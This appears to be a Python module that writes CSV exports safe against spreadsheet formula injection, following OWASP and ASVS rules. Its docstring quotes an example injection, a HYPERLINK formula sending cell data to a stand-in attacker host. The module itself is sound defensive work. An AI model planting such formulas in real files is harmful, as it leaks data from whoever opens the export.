"""CSV that a spreadsheet opens as data, never as formulas: every CSV Vigile writes is
written by :func:`csv_text`.

RFC 4180: CRLF line ends, a cell quoted when it holds a comma, a quote or a line break
(quotes doubled), so no value spills into the next cell. And no cell is a formula.
Spreadsheets (Excel, LibreOffice Calc, Google Sheets) evaluate a cell that begins with
``=``, ``+``, ``-`` or ``@``: a ticket ``=HYPERLINK("http://evil.example/?"&A1,"click")``
typed by anyone would run on the machine of whoever opens the export. OWASP's *CSV
Injection* page names those four, tab and carriage return, and has a single quote put in
front, which makes the spreadsheet take the cell as text. A text cell gets that quote
(:func:`csv_cell`) when

- its first character is ``=`` ``+`` ``-`` ``@``, tab, carriage return or NUL (ASVS 5.0,
  V1.2.10, adds NUL);
- its first character after leading whitespace is ``=`` ``+`` ``-`` ``@`` (an importer
  that trims spaces would otherwise meet the formula);
- its first character is ``'`` itself, so the rule undoes without doubt: a cell that
  begins with ``'`` had one put in front; drop that one and you have the value.

Numbers are Vigile's own (``int``: a leaf index, a tree size; never text someone typed)
and are written as plain decimals: a decimal is no formula, and ``-5`` stays the number
-5. Text that only looks like a number (a ticket ``-5``) is text, and gets its quote.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

__all__ = ["Cell", "csv_cell", "csv_text"]

#: What a CSV cell is made from: text (neutralised) or one of Vigile's own integers.
Cell = str | int

_FORMULA = frozenset("=+-@")
# Always quoted when first: tab and CR (OWASP), NUL (ASVS), and the quote itself.
_FIRST = frozenset("\t\r\x00'")


def csv_cell(value: Cell) -> str:
    """The text of one cell: an integer's decimal, or the text with a ``'`` in front
    when a spreadsheet could take it for a formula (see the module's rules)."""
    if isinstance(value, int):
        return str(value)
    if value[:1] in _FIRST or value.lstrip()[:1] in _FORMULA:
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """RFC 4180 CSV (CRLF line ends), the header line first, every cell through
    :func:`csv_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([csv_cell(name) for name in header])
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    return out.getvalue()
